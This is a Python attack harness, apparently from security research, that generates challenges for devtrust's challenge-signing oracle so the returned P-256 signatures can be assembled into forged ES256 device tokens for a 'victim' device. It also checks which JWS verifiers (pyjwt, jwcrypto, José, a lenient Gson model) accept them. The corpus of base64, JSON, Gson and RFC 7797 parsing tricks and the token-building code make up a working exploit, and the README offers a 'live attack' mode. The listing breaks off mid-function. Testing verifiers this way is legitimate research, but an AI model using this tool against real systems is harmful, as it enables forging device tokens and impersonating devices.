#!/usr/bin/python3
"""jws_oracle: an attack corpus and verifier harness for devtrust's
challenge-signing oracle.

README
======
The attack
    devtrust signs registration challenges (raw bytes) with the same P-256
    key that signs its ES256 device tokens. A hostile server that sends a
    challenge C which some JWS verifier reads as a signing input
    "header.payload" gets back a signature S, and C + "." + base64url(r||s)
    is then a device token. This tool generates such challenges (many ways of
    writing a header a verifier will still take for {"alg":"ES256"}), and
    checks which verifiers accept the tokens built from devtrust's answers.

Commands (run with /usr/bin/python3: it needs Debian's python3-cryptography,
python3-jwt, python3-jwcrypto, python3-json5, and /usr/bin/jose)
    jws_oracle.py corpus [--seed N] [--iat N|now]
        prints the corpus: a JSON array of {"name", "class", "challenge"
        (base64url, no padding), "bytes"}. Deterministic for a given seed and
        iat (iat defaults to a fixed time so that the output is stable; pass
        --iat now for a live attack).
    jws_oracle.py collect [--seed N] [--iat N|now] -- COMMAND [ARGS...]
        runs COMMAND ARGS... CHALLENGE for every variant (for example
        `devtrust --keystore DIR sign-challenge`) and prints the variants file
        that `check` reads: [{"name", "challenge", "signature" (stdout, or
        null when the command failed), "refusal" (its stderr)}].
    jws_oracle.py check --public-key SPKI_B64 --variants FILE
        FILE is a JSON array of {"name", "challenge", "signature"} where
        signature is the standard-base64 DER signature devtrust produced, or
        null when it refused. Builds every token an attacker would from each
        signed variant and prints a JSON report: per variant, which verifiers
        accepted (and through which token form); totals {"signed",
        "refused", "accepted", "acceptedBy"}.
    jws_oracle.py control --private-key PEM_FILE [--seed N] [--iat N|now]
        signs every variant itself and prints the same report: it shows the
        corpus is meaningful (every variant should be accepted by at least
        one verifier; "notAccepted" lists those that are not).
    Exit status: 0 when the run itself worked (the report says what was
    accepted), 1 when it could not run (unreadable file, bad key), 2 on bad
    usage.

Verifiers (each configured the recommended way: the algorithm pinned)
    pyjwt     PyJWS().decode_complete(token, key, algorithms=["ES256"])
              (python3-jwt), token as bytes and as str.
    jwcrypto  JWS().deserialize(token, JWK, alg="ES256") (python3-jwcrypto),
              compact str and JSON serializations.
    jose      `jose jws ver -i FILE -k JWK -O -` (José, C), with the public
              key as a JWK carrying "alg":"ES256" (as `jose jwk gen` makes
              them), compact and JSON serializations.
    lenient   lenient_jws.verify_lenient / verify_lenient_json (beside this
              file): a model of the real server's Nimbus+Gson reading.
    A verifier "accepts" a variant when one of the token forms verifies as an
    ES256 JWS under the device key; whether the payload then reads as a JSON
    object of claims is reported too ("claims"). An unexpected exception
    counts as not accepted and is listed under "unexpected".

Token forms built from a challenge C and a raw signature S (sig = b64url(S))
    compact-bytes  C + "." + sig;  compact-str: the same as a str (C UTF-8)
    json-flattened@i / json-general@i: RFC 7515 section 7.2 with protected
        = C[:i], payload = C[i+1:] for each '.' at i; json-...+header adds an
        unprotected {"alg":"ES256"}; when C[:i] is empty the protected member
        is left out and alg sits in the unprotected header only.
    compact-b64-reencoded@i: C[:i] + "." + b64url(C[i+1:]) + "." + sig, the
        compact form of an RFC 7797 b64:false JWS for verifiers that decode
        the payload segment (jwcrypto does).

Corpus classes (see build_corpus): canonical (the baseline devtrust must
refuse), b64 (padding, '+' '/', trailing bits, whitespace, junk bytes, data
after padding), dots (extra dots in the payload, empty payload), json
(duplicates, BOM, UTF-16/32, lone surrogates, NaN/Infinity, escapes,
whitespace, raw control characters, bad UTF-8, headers without alg), gson
(unquoted names and values, single quotes, comments, = => ; separators, the
)]}' prefix, trailing commas, JSON5 numbers and escapes), jwsjson (empty
protected header, RFC 7797 b64:false), payload (odd payloads under a
canonical header) and combo (several of these at once); most in a realistic
size (header {"alg":"ES256","typ":"JWT","deviceId":"victim"}, claims
{"jti","iat"}) and a minimal one (16-64 bytes, a registration challenge's
size).
"""
import argparse
import base64
import binascii
import json
import os
import random
import subprocess
import sys
import tempfile
import time
from concurrent.futures import ThreadPoolExecutor

sys.path.insert(0, os.path.dirname(os.path.abspath(__file__)))
import lenient_jws  # noqa: E402  (beside this file)

VERIFIERS = ("pyjwt", "jwcrypto", "jose", "lenient")
DEFAULT_SEED = 1
DEFAULT_IAT = 1767225600  # 2026-01-01T00:00:00Z: fixed so the corpus is stable
JOSE = "/usr/bin/jose"
JOSE_TIMEOUT = 20
REAL_HEADER = {"alg": "ES256", "typ": "JWT", "deviceId": "victim"}
MIN_HEADER = {"alg": "ES256"}
FILLER_ALPHABET = "abcdefghijklmnopqrstuvwxyz0123456789?>~"
JUNK = {  # name -> bytes a lenient base64 reader skips
    "space": b" ", "tab": b"\t", "lf": b"\n", "crlf": b"\r\n", "bang": b"!",
    "star": b"*", "tilde": b"~", "percent": b"%", "quote": b'"', "backslash": b"\\",
    "nul": b"\x00", "del": b"\x7f", "ff": b"\xff", "eacute": "\u00e9".encode(),
    "nbsp": "\u00a0".encode(), "fullwidth-A": "\uff21".encode(),
}
SIGNATURE_BYTES = 64
BASE64URL_DIGITS = frozenset("ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789-_")


# ---------------------------------------------------------------- encodings

def b64u(data):
    """base64url without padding, as bytes."""
    return base64.urlsafe_b64encode(data).rstrip(b"=")


def b64u_str(data):
    return b64u(data).decode("ascii")


def b64u_decode(text):
    """Strict base64url (the corpus's own challenges), padding optional."""
    text = text.strip()
    if not all(c in BASE64URL_DIGITS for c in text):
        raise ValueError("challenge is not base64url")
    return base64.urlsafe_b64decode(text + "=" * (-len(text) % 4))


def cjson(obj):
    """Canonical compact JSON bytes."""
    return json.dumps(obj, separators=(",", ":")).encode("utf-8")


def enc_pad(data):
    return base64.urlsafe_b64encode(data)


def enc_std(data):
    return base64.b64encode(data).rstrip(b"=")


def enc_bits(data):
    """base64url with the unused low bits of the last digit set."""
    text = b64u(data)
    spare = {1: 4, 2: 2}.get(len(data) % 3)
    if spare is None:
        raise ValueError("no spare bits: length is a multiple of 3")
    alphabet = b"ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789-_"
    digit = alphabet.index(text[-1:]) | ((1 << spare) - 1)
    return text[:-1] + alphabet[digit:digit + 1]


def insert_at(text, junk, positions):
    """Insert junk before each of positions (indexes into the original)."""
    out = bytearray()
    for index in range(len(text) + 1):
        if index in positions:
            out += junk
        out += text[index:index + 1]
    return bytes(out)


def spread(rng, length, count):
    """count distinct positions inside a segment of length (not at 0)."""
    return set(rng.sample(range(1, max(length, count + 1)), count))


def tune(rng, make, want, attempts=20000):
    """make(filler) for the first random filler whose result satisfies want."""
    for _ in range(attempts):
        filler = "".join(rng.choice(FILLER_ALPHABET) for _ in range(rng.randint(1, 6)))
        data = make(filler)
        if want(data):
            return data
    raise RuntimeError("no filler found")


def has_spare_bits(data):
    return len(data) % 3 != 0


def has_urlsafe_digits(data):
    text = b64u(data)
    return b"-" in text and b"_" in text


# ---------------------------------------------------------------- corpus

class CorpusBuilder:
    """Collects (name, challenge) pairs; names are class/trick[/part]/size."""

    def __init__(self, seed, iat):
        self.rng = random.Random(seed)
        self.iat = iat
        self.variants = []
        self.seen = set()
        jti = "".join(self.rng.choice("0123456789abcdef") for _ in range(16))
        self.headers = {
            "real": cjson(REAL_HEADER),
            "min": cjson(MIN_HEADER),
        }
        self.claims = {
            "real": cjson({"jti": jti, "iat": iat}),
            "min": b"{}",
        }
        # the same with spare bits and both '-' and '_' in their base64url,
        # for the padding, alphabet and trailing-bit tricks
        want = lambda data: has_spare_bits(data) and has_urlsafe_digits(data)  # noqa: E731
        self.odd_headers = {
            "real": tune(self.rng, lambda f: cjson({**REAL_HEADER, "kid": f}), want),
            "min": tune(self.rng, lambda f: cjson({**MIN_HEADER, "kid": f}), want),
        }
        self.odd_claims = {
            "real": tune(self.rng, lambda f: cjson({"jti": jti + f, "iat": iat}), want),
            "min": tune(self.rng, lambda f: cjson({"sub": f}), want),
        }

    def add(self, name, challenge):
        if challenge in self.seen:
            return
        self.seen.add(challenge)
        self.variants.append({"name": name, "challenge": challenge})

    def jws(self, header, claims):
        return b64u(header) + b"." + b64u(claims)

    def build(self):
        for size in ("real", "min"):
            self.canonical(size)
            self.b64_tricks(size)
            self.dot_tricks(size)
            self.json_tricks(size)
            self.gson_tricks(size)
            self.jwsjson_tricks(size)
            self.payload_tricks(size)
        self.junk_tricks()
        self.combos()
        return self.variants

    def canonical(self, size):
        header, claims = self.headers[size], self.claims[size]
        self.add(f"canonical/plain/{size}", self.jws(header, claims))
        reordered = cjson(dict(reversed(list(json.loads(header).items()))))
        self.add(f"canonical/reordered-members/{size}", self.jws(reordered, claims))
        self.add(f"canonical/kid/{size}", self.jws(cjson({**json.loads(header), "kid": "k1"}), claims))

    def b64_tricks(self, size):
        header, claims = self.odd_headers[size], self.odd_claims[size]
        encoders = {
            "pad": enc_pad,
            "std-alphabet": enc_std,
            "std-alphabet-pad": lambda d: base64.b64encode(d),
            "trailing-bits": enc_bits,
            "pad-extra": lambda d: enc_pad(d) + b"==",
            "pad-in-middle": lambda d: insert_at(b64u(d), b"=", {4}),
            "pad-in-middle-x4": lambda d: insert_at(b64u(d), b"====", {8}),
            "bits-and-pad": lambda d: enc_bits(d) + b"=" * (-len(enc_bits(d)) % 4),
        }
        for trick, encode in encoders.items():
            self.add(f"b64/{trick}/header/{size}", encode(header) + b"." + b64u(claims))
            self.add(f"b64/{trick}/payload/{size}", b64u(header) + b"." + encode(claims))
            self.add(f"b64/{trick}/both/{size}", encode(header) + b"." + encode(claims))
        # data after the padding: Python's non-strict decoder stops at "=="
        # once a quantum is complete and ignores the rest
        for extra in (b"AAAA", b"e30", b"junk"):
            self.add(f"b64/after-pad-{extra.decode()}/header/{size}",
                     enc_pad(header) + extra + b"." + b64u(claims))
        self.add(f"b64/after-pad/payload/{size}", b64u(header) + b"." + enc_pad(claims) + b"e30")
        # a canonical header followed by a base64 "comment": ignored by PyJWT
        self.add(f"b64/leading-junk-x4/header/{size}", b"    " + b64u(self.headers[size]) + b"." + b64u(self.claims[size]))

    def junk_tricks(self):
        """Junk bytes inside base64, one and four at a time (four keep the
        digit count a multiple of 4, which PyJWT's padding arithmetic needs)."""
        for size in ("real", "min"):
            header, claims = self.headers[size], self.claims[size]
            hseg, pseg = b64u(header), b64u(claims)
            for name, junk in JUNK.items():
                self.add(f"b64/junk-{name}/header/{size}",
                         insert_at(hseg, junk, {4}) + b"." + pseg)
                self.add(f"b64/junk-{name}-x4/header/{size}",
                         insert_at(hseg, junk, spread(self.rng, len(hseg), 4)) + b"." + pseg)
                if size == "real" and name in ("space", "lf", "bang", "nul", "ff"):
                    self.add(f"b64/junk-{name}-x4/payload/{size}",
                             hseg + b"." + insert_at(pseg, junk, spread(self.rng, len(pseg), 4)))
                    self.add(f"b64/junk-{name}-x4/both/{size}",
                             insert_at(hseg, junk, spread(self.rng, len(hseg), 4)) + b"."
                             + insert_at(pseg, junk, spread(self.rng, len(pseg), 4)))
            self.add(f"b64/junk-mixed-x4/header/{size}",
                     insert_at(hseg, b" \t!\n", {8}) + b"." + pseg)
            self.add(f"b64/junk-trailing-lf/payload/{size}", hseg + b"." + pseg + b"\n")

    def dot_tricks(self, size):
        header, claims = self.headers[size], self.claims[size]
        hseg, pseg = b64u(header), b64u(claims)
        for count in (1, 2, 3, 4, 8):
            self.add(f"dots/extra-{count}-in-payload/{size}",
                     hseg + b"." + insert_at(pseg, b".", spread(self.rng, len(pseg), min(count, len(pseg) - 1))))
        self.add(f"dots/trailing-dot/{size}", hseg + b"." + pseg + b".")
        self.add(f"dots/trailing-dots-x4/{size}", hseg + b"." + pseg + b"....")
        self.add(f"dots/empty-payload/{size}", hseg + b".")
        self.add(f"dots/empty-payload-x4/{size}", hseg + b".....")
        self.add(f"dots/payload-dot-padding/{size}", hseg + b"." + pseg + b".=")
        self.add(f"dots/space-before-dot/{size}", hseg + b" ." + pseg)
        self.add(f"dots/lf-after-dot/{size}", hseg + b".\n" + pseg)
        self.add(f"dots/crlf-around-dot-x4/{size}", hseg + b"\r\n.\r\n" + pseg)

    def json_tricks(self, size):
        header, claims = self.headers[size], self.claims[size]
        pseg = b64u(claims)
        text = header.decode()
        inner = text[1:-1]
        variants = {
            "whitespace": '{ ' + inner.replace(",", " , ").replace(":", " : ") + ' }',
            "pretty": json.dumps(json.loads(text), indent=2),
            "leading-ws": "\n\t " + text,
            "trailing-ws": text + " \r\n",
            "escaped-name": text.replace('"alg"', '"\\u0061lg"'),
            "escaped-value": text.replace('"ES256"', '"\\u0045S\\u0032\\u00356"'),
            "escaped-slash": inner.join(("{", ',"x":"a\\/b"}')),
            "dup-alg-none": '{"alg":"none",' + inner + "}",
            "dup-alg-hs256": '{"alg":"HS256",' + inner + "}",
            "dup-alg-after": "{" + inner + ',"alg":"ES256"}',
            "dup-device": "{" + inner + ',"deviceId":"attacker","deviceId":"victim"}',
            "nan": "{" + inner + ',"x":NaN}',
            "infinity": "{" + inner + ',"x":Infinity}',
            "minus-infinity": "{" + inner + ',"x":-Infinity}',
            "lone-surrogate-high": "{" + inner + ',"x":"\\ud800"}',
            "lone-surrogate-low": "{" + inner + ',"x":"\\udfff"}',
            "surrogate-name": "{" + inner + ',"\\udbff":1}',
            "big-exponent": "{" + inner + ',"x":1e999}',
            "nested-dup": "{" + inner + ',"x":{"a":1,"a":2}}',
            "deep-nesting": "{" + inner + ',"x":' + "[" * 40 + "]" * 40 + "}",
            "raw-tab-in-string": "{" + inner + ',"x":"a\tb"}',
            "raw-newline-in-string": "{" + inner + ',"x":"a\nb"}',
            "raw-ctrl-in-string": "{" + inner + ',"x":"a\x01b"}',
            "nul-escape": "{" + inner + ',"x":"\\u0000"}',
        }
        for trick, value in variants.items():
            self.add(f"json/{trick}/{size}", b64u(value.encode("utf-8", "surrogatepass")) + b"." + pseg)
        encoded = {
            "bom": b"\xef\xbb\xbf" + header,
            "bad-utf8-in-string": header[:-1] + b',"x":"\xff\xfe"}',
            "overlong-utf8": header[:-1] + b',"x":"\xc0\xaf"}',
            "utf16-le": text.encode("utf-16-le"),
            "utf16-be": text.encode("utf-16-be"),
            "utf16-bom": text.encode("utf-16"),
            "utf32-le": text.encode("utf-32-le"),
            "utf32-be": text.encode("utf-32-be"),
        }
        for trick, value in encoded.items():
            self.add(f"json/{trick}/{size}", b64u(value) + b"." + pseg)
        self.add(f"json/bom-both/{size}", b64u(b"\xef\xbb\xbf" + header) + b"." + b64u(b"\xef\xbb\xbf" + claims))
        self.add(f"json/utf16-both/{size}", b64u(text.encode("utf-16-le")) + b"." + b64u(claims.decode().encode("utf-16-le")))
        # headers without alg: verifiers that pin the algorithm (jwcrypto's
        # alg=, José's JWK "alg") do not need one in the token
        noalg = {k: v for k, v in json.loads(text).items() if k != "alg"}
        self.add(f"json/no-alg/{size}", b64u(cjson(noalg)) + b"." + pseg)
        self.add(f"json/no-alg-empty-object/{size}", b"e30." + pseg)
        # dropped: {"alg":null,...} is refused by every verifier (jwcrypto and
        # José compare the explicit null with the pinned algorithm)

    def gson_tricks(self, size):
        pseg = b64u(self.claims[size])
        if size == "real":
            members = [("alg", "ES256"), ("typ", "JWT"), ("deviceId", "victim")]
        else:
            members = [("alg", "ES256")]

        def obj(name_fmt, value_fmt, sep=":", comma=","):
            return "{" + comma.join(name_fmt.format(k) + sep + value_fmt.format(v) for k, v in members) + "}"

        canonical = obj('"{}"', '"{}"')
        variants = {
            "unquoted-names": obj("{}", '"{}"'),
            "unquoted-values": obj('"{}"', "{}"),
            "unquoted-both": obj("{}", "{}"),
            "single-quotes": obj("'{}'", "'{}'"),
            "single-quoted-names": obj("'{}'", '"{}"'),
            "equals": obj('"{}"', '"{}"', sep="="),
            "arrow": obj('"{}"', '"{}"', sep="=>"),
            "semicolons": obj('"{}"', '"{}"', comma=";") if len(members) > 1 else canonical[:-1] + ';"x":1}',
            "arrow-semicolons-unquoted": obj("{}", "{}", sep="=>", comma=";"),
            "nonexec-prefix": ")]}'\n" + canonical,
            "nonexec-prefix-unquoted": ")]}'\n" + obj("{}", "{}"),
            "block-comment-before": "/*x*/" + canonical,
            "block-comment-inside": canonical.replace(":", "/**/:", 1),
            "line-comment-after": canonical + "//x",
            "line-comment-inside": canonical.replace(",", ",//x\n", 1) if len(members) > 1 else "{//x\n" + canonical[1:],
            "hash-comment-before": "#x\n" + canonical,
            "hash-comment-after": canonical + "#x",
            "trailing-comma": canonical[:-1] + ",}",
            "empty-array-elements": canonical[:-1] + ',"x":[,1,,]}',
            "keyword-case": canonical[:-1] + ',"x":TRUE,"y":Null}',
            "json5-hex": canonical[:-1] + ',"x":0x1F}',
            "json5-plus-dot": canonical[:-1] + ',"x":+.5}',
            "json5-line-continuation": canonical.replace('"ES256"', '"ES2\\\n56"'),
            "json5-hex-escape": canonical.replace('"ES256"', '"\\x45S256"'),
            "json5-nbsp": canonical.replace("{", "{\u00a0", 1),
            "json5-ls": canonical.replace("{", "{\u2028", 1),
            "mixed-all": ")]}'\n/*c*/{alg=>ES256;" + ("typ=JWT;deviceId:'victim';" if size == "real" else "") + "x:[,]}#",
            # Gson's Map adapter reads an array of [name, value] pairs as a map: no braces at all.
            "map-from-pairs": "[" + ",".join('["%s","%s"]' % member for member in members) + "]",
            "map-from-pairs-unquoted": "[" + ",".join("[%s,%s]" % member for member in members) + "]",
            "map-from-pairs-semicolons": "[" + ";".join("[%s;%s]" % member for member in members) + "]",
            "map-from-pairs-prefix": ")]}'\n[" + ",".join("['%s','%s']" % member for member in members) + "]",
        }
        for trick, value in variants.items():
            self.add(f"gson/{trick}/{size}", b64u(value.encode()) + b"." + pseg)

    def jwsjson_tricks(self, size):
        header, claims = self.headers[size], self.claims[size]
        pseg = b64u(claims)
        # empty protected header: alg can only come from an unprotected
        # header (JSON serialization) or a pinned algorithm
        self.add(f"jwsjson/empty-protected/{size}", b"." + pseg)
        self.add(f"jwsjson/empty-protected-empty-payload/{size}", b".")
        # RFC 7797 unencoded payload: the payload is raw bytes, not base64
        b64false = cjson({**json.loads(header), "b64": False, "crit": ["b64"]})
        raw = claims.decode()
        self.add(f"jwsjson/b64-false/{size}", b64u(b64false) + b"." + claims)
        self.add(f"jwsjson/b64-false-no-crit/{size}", b64u(cjson({**json.loads(header), "b64": False})) + b"." + claims)
        self.add(f"jwsjson/b64-false-binary/{size}", b64u(b64false) + b"." + bytes(range(0x21, 0x2d)))
        self.add(f"jwsjson/b64-false-dotted/{size}", b64u(b64false) + b"." + (raw[:-1] + ',"u":"a.b"}').encode())

    def payload_tricks(self, size):
        hseg = b64u(self.headers[size])
        claims = json.loads(self.claims[size]) or {"sub": "x"}
        text = cjson(claims).decode()
        inner = text[1:-1]
        payloads = {
            "not-json": bytes(self.rng.randrange(256) for _ in range(12)),
            "json-array": b"[1,2]",
            "json-string": b'"victim"',
            "dup-claim": ("{" + inner + ',"sub":"a","sub":"victim"}').encode(),
            "nan-claim": ("{" + inner + ',"exp":NaN}').encode(),
            "bom": b"\xef\xbb\xbf" + text.encode(),
            "utf16": text.encode("utf-16-le"),
            "gson-unquoted": ("{" + ";".join(f"{k}={v}" for k, v in claims.items()) + "}").encode(),
            "comment": ("/*x*/" + text).encode(),
        }
        for trick, value in payloads.items():
            self.add(f"payload/{trick}/{size}", hseg + b"." + b64u(value))

    def combos(self):
        real_p = b64u(self.claims["real"])
        min_p = b64u(self.claims["min"])
        odd_p = self.odd_claims["real"]
        gson_min = b"{alg:ES256}"
        gson_real = b"{alg:ES256,typ:JWT,deviceId:victim}"
        utf16 = json.dumps(MIN_HEADER).encode("utf-16-le")
        combos = {
            "gson-unquoted+pad/min": enc_pad(gson_min) + b"." + min_p,
            "gson-unquoted+std+pad-payload/real": enc_std(gson_real) + b"." + enc_pad(odd_p),
            "gson-unquoted+junk-x4/min": insert_at(b64u(gson_min), b"\n", {2, 5, 7, 9}) + b"." + min_p,
            "gson-unquoted+dots/min": b64u(gson_min) + b"." + insert_at(min_p, b".", {1, 2}),
            "gson-unquoted+bits/min": enc_bits(b"{alg:ES256}") + b"." + enc_bits(b"{}"),
            "gson-prefix+comment+ws/real": insert_at(b64u(b")]}'\n#c\n" + gson_real), b" ", {6}) + b"." + real_p,
            "json5-comment+crlf/real": insert_at(b64u(b'//c\n{"alg":"ES256",typ:"JWT",deviceId:"victim",}'), b"\r\n", {10, 30}) + b"." + real_p,
            "bom+pad/min": enc_pad(b"\xef\xbb\xbf" + cjson(MIN_HEADER)) + b"." + min_p,
            "bom+std+bits/real": enc_bits(b"\xef\xbb\xbf" + self.odd_headers["real"]).translate(bytes.maketrans(b"-_", b"+/")) + b"." + real_p,
            "bom+gson/min": b64u(b"\xef\xbb\xbf" + gson_min) + b"." + min_p,
            "dup+pad/min": enc_pad(b'{"alg":"x","alg":"ES256"}') + b"." + min_p,
            "dup+std/real": enc_std(tune(self.rng, lambda f: b'{"alg":"none",' + cjson({**REAL_HEADER, "kid": f})[1:],
                                         has_urlsafe_digits)) + b"." + real_p,
            "dup+gson/min": b64u(b"{alg:none;alg:ES256}") + b"." + min_p,
            "nan+bits/min": enc_bits(b'{"alg":"ES256","x":NaN}') + b"." + min_p,
            "surrogate+pad/min": enc_pad(b'{"alg":"ES256","x":"\\ud800"}') + b"." + min_p,
            "surrogate+junk-x4/real": insert_at(b64u(b'{"alg":"ES256","x":"\\udfff","typ":"JWT"}'), b"~", {3, 9, 15, 21}) + b"." + real_p,
            "utf16+pad/min": enc_pad(utf16) + b"." + min_p,
            "utf16+after-pad/min": enc_pad('{"alg":"ES256" }'.encode("utf-16-le")) + b"AAAA." + min_p,
            "utf32+dots/min": b64u(json.dumps(MIN_HEADER).encode("utf-32")) + b"." + insert_at(min_p, b".", {1, 2, 3}) + b".",
            "no-alg+dup/min": b64u(b'{"typ":"JWT","typ":"JWT"}') + b"." + min_p,
            "no-alg+ws/min": b64u(b'{ }') + b"." + min_p,
            "empty-protected+bits/min": b"." + enc_bits(b"{}"),
            "empty-protected+junk/real": b"." + insert_at(real_p, b" ", {5}),
            "b64-false+bits/min": enc_bits(cjson({"alg": "ES256", "b64": False, "crit": ["b64"], "k": "1"})) + b".{}",
            "b64-false+gson/min": b64u(b"{alg:ES256,b64:false,crit:[b64]}") + b".{}",
            "b64-false+empty/min": b64u(cjson({"alg": "ES256", "b64": False})) + b".",
            "pad+dots+junk/real": enc_pad(self.odd_headers["real"]) + b"." + insert_at(enc_pad(odd_p), b".", {4, 8, 12, 16}),
            "everything/min": insert_at(enc_pad(b"\xef\xbb\xbf)]}'\n{alg=>ES256;typ=JWT}//"), b"!", {3}) + b".e30=",
        }
        for name, challenge in combos.items():
            trick, size = name.rsplit("/", 1)
            self.add(f"combo/{trick}/{size}", challenge)


def build_corpus(seed, iat):
    """The corpus: [{"name", "class", "challenge" (bytes)}], deterministic."""
    variants = CorpusBuilder(seed, iat).build()
    for variant in variants:
        variant["class"] = variant["name"].split("/", 1)[0]
    return variants


def corpus_json(variants):
    return [{"name": v["name"], "class": v["class"], "challenge": b64u_str(v["challenge"]),
             "bytes": len(v["challenge"])} for v in variants]


# ---------------------------------------------------------------- token forms

def raw_signature(der_b64):
    """devtrust's standard-base64 DER signature as 64 bytes r||s."""
    from cryptography.hazmat.primitives.asymmetric.utils import decode_dss_signature
    r, s = decode_dss_signature(base64.b64decode(der_b64.strip(), validate=True))
    return r.to_bytes(SIGNATURE_BYTES // 2, "big") + s.to_bytes(SIGNATURE_BYTES // 2, "big")


def token_forms(challenge, signature):
    """Every token an attacker can build from challenge C and raw signature:
    a list of (form name, token bytes or str, kind) with kind compact, json
    or reencoded (see the README)."""
    sig = b64u_str(signature)
    forms = [("compact-bytes", challenge + b"." + sig.encode(), "compact")]
    try:
        text = challenge.decode("utf-8")
    except UnicodeDecodeError:
        text = None
    if text is not None:
        forms.append(("compact-str", text + "." + sig, "compact"))
    for index, byte in enumerate(challenge):
        if byte != 0x2E:
            continue
        protected, payload = challenge[:index], challenge[index + 1:]
        forms.append((f"compact-b64-reencoded@{index}", protected + b"." + b64u(payload) + b"." + sig.encode(), "reencoded"))
        if text is None:
            continue
        protected, payload = text[:index], text[index + 1:]  # '.' is one byte: same index
        alg = {"alg": "ES256"}
        if protected:
            entries = {"": {"protected": protected, "signature": sig},
                       "+header": {"protected": protected, "header": alg, "signature": sig}}
        else:
            entries = {"-unprotected": {"header": alg, "signature": sig}}
        for suffix, entry in entries.items():
            forms.append((f"json-flattened{suffix}@{index}", json.dumps({"payload": payload, **entry}), "json"))
            forms.append((f"json-general{suffix}@{index}", json.dumps({"payload": payload, "signatures": [entry]}), "json"))
    return forms


# ---------------------------------------------------------------- verifiers

def json_object(payload):
    """Whether payload bytes read (by Python) as a JSON object of claims."""
    try:
        return isinstance(json.loads(payload), dict)
    except (ValueError, TypeError):
        return False


class Verifiers:
    """The in-process verifiers (José runs apart, see run_jose): each method
    takes (token, form kind), returns whether the payload is a JSON object of
    claims when the token verifies, and raises otherwise; the exceptions in
    self.expected mean "refused", any other is a verifier bug."""

    def __init__(self, public_key):
        import jwt
        from jwcrypto import common as jwcrypto_common, jwk, jws
        self.key = lenient_jws.load_public_key(public_key)
        numbers = self.key.public_numbers()
        self.jwk = {"kty": "EC", "crv": "P-256", "alg": "ES256",
                    "x": b64u_str(numbers.x.to_bytes(32, "big")),
                    "y": b64u_str(numbers.y.to_bytes(32, "big"))}
        self.pyjws = jwt.api_jws.PyJWS()
        self.jwcrypto_key = jwk.JWK(**self.jwk)
        self.jwcrypto_jws = jws.JWS
        self.expected = {
            "pyjwt": (jwt.exceptions.PyJWTError,),
            "jwcrypto": (jwcrypto_common.JWException,),
            "lenient": (lenient_jws.LenientJWSError,),
        }

    @staticmethod
    def forms_for(verifier, forms):
        """The token forms worth trying on a verifier: PyJWT reads compact
        only; jwcrypto wants str (bytes that are not UTF-8 cannot reach it);
        José reads bytes, treats general and flattened JSON alike and takes
        alg from the JWK, so one JSON form per split point is enough for it,
        and a re-encoded compact form only splits at the first dot."""
        if verifier == "pyjwt":
            return [f for f in forms if f[2] == "compact"]
        if verifier == "lenient":
            return [f for f in forms if f[2] in ("compact", "json")]
        if verifier == "jwcrypto":
            chosen = []
            for form in forms:
                if form[0] == "compact-bytes":
                    continue
                if isinstance(form[1], bytes):
                    try:
                        form = (form[0], form[1].decode("utf-8"), form[2])
                    except UnicodeDecodeError:
                        continue
                chosen.append(form)
            return chosen
        first_reencoded = next((f[0] for f in forms if f[2] == "reencoded"), None)
        return [f for f in forms
                if f[0] == "compact-bytes" or f[0] == first_reencoded
                or f[0].startswith(("json-flattened@", "json-flattened-unprotected@"))]

    def pyjwt(self, token, kind):
        decoded = self.pyjws.decode_complete(token, key=self.key, algorithms=["ES256"])
        return json_object(decoded["payload"])

    def jwcrypto(self, token, kind):
        jws = self.jwcrypto_jws()
        jws.deserialize(token, key=self.jwcrypto_key, alg="ES256")
        return json_object(jws.objects["payload"])

    def lenient(self, token, kind):
        verify = lenient_jws.verify_lenient_json if kind == "json" else lenient_jws.verify_lenient
        _, claims = verify(token, self.key)
        return claims is not None


JOSE_BATCH = r"""
key=$1; shift
for token in "$@"; do
    "$JOSE" jws ver -i "$token" -k "$key" -O "$token.out" >/dev/null 2>"$token.err"
    echo "$? $token"
done
"""


def run_jose(tasks, jwk, workdir):
    """Run `jose jws ver` on every (key, token bytes) task: the tokens are
    written to files and verified by one shell loop per CPU (a process per
    token from Python costs more than José itself). Returns {key: (accepted,
    claims, unexpected error or None)}."""
    jwk_path = os.path.join(workdir, "key.jwk")
    with open(jwk_path, "w") as out:
        json.dump(jwk, out)
    paths = {}
    for index, (key, token) in enumerate(tasks):
        path = os.path.join(workdir, f"t{index}")
        with open(path, "wb") as out:
            out.write(token)
        paths[path] = key
    workers = max(1, min(os.cpu_count() or 1, 8))
    chunks = [list(paths)[n::workers] for n in range(workers)]
    codes = {}
    try:
        processes = [subprocess.Popen(["/bin/sh", "-c", JOSE_BATCH, "sh", jwk_path, *chunk],
                                      stdout=subprocess.PIPE, text=True, env={**os.environ, "JOSE": JOSE})
                     for chunk in chunks if chunk]
        with ThreadPoolExecutor(max_workers=len(processes)) as pool:
            outputs = list(pool.map(lambda p: p.communicate(timeout=JOSE_TIMEOUT * len(tasks))[0], processes))
        for output in outputs:
            for line in output.splitlines():
                code, _, path = line.partition(" ")
                codes[path] = int(code)
    except (OSError, subprocess.SubprocessError, ValueError) as error:
        return {key: (False, False, f"{type(error).__name__}: {error}") for key in paths.values()}
    results = {}
    for path, key in paths.items():
        code = codes.get(path)
        if code == 0:
            with open(path + ".out", "rb") as source:
                results[key] = (True, json_object(source.read()), None)
        elif code is None or code >= 126:
            with open(path + ".err", "rb") as source:
                detail = source.read().decode("utf-8", "replace").strip()[:160]
            results[key] = (False, False, f"jose exit {code}: {detail}")
        else:
            results[key] = (False, False, None)
    return results


def evaluate(entries, public_key):
    """entries: [{"name", "challenge" (bytes), "signature" (raw 64 bytes or
    None)}]. Returns the report."""
    verifiers = Verifiers(public_key)
    results = []
    jose_tasks = []
    for position, entry in enumerate(entries):
        result = {"name": entry["name"], "bytes": len(entry["challenge"]),
                  "signed": entry["signature"] is not None}
        if entry.get("refusal"):
            result["refusal"] = entry["refusal"]
        results.append(result)
        if not result["signed"]:
            continue
        forms = token_forms(entry["challenge"], entry["signature"])
        result.update(acceptedBy=[], forms={}, claims={}, unexpected={})
        for name in ("pyjwt", "jwcrypto", "lenient"):
            for form, token, kind in verifiers.forms_for(name, forms):
                try:
                    claims = getattr(verifiers, name)(token, kind)
                except verifiers.expected[name]:
                    continue
                except Exception as error:  # a verifier bug: report, count as refused
                    result["unexpected"].setdefault(name, []).append(
                        f"{form}: {type(error).__name__}: {str(error)[:160]}")
                    continue
                if name not in result["forms"]:
                    result["forms"][name] = form
                    result["claims"][name] = claims
        for form, token, kind in verifiers.forms_for("jose", forms):
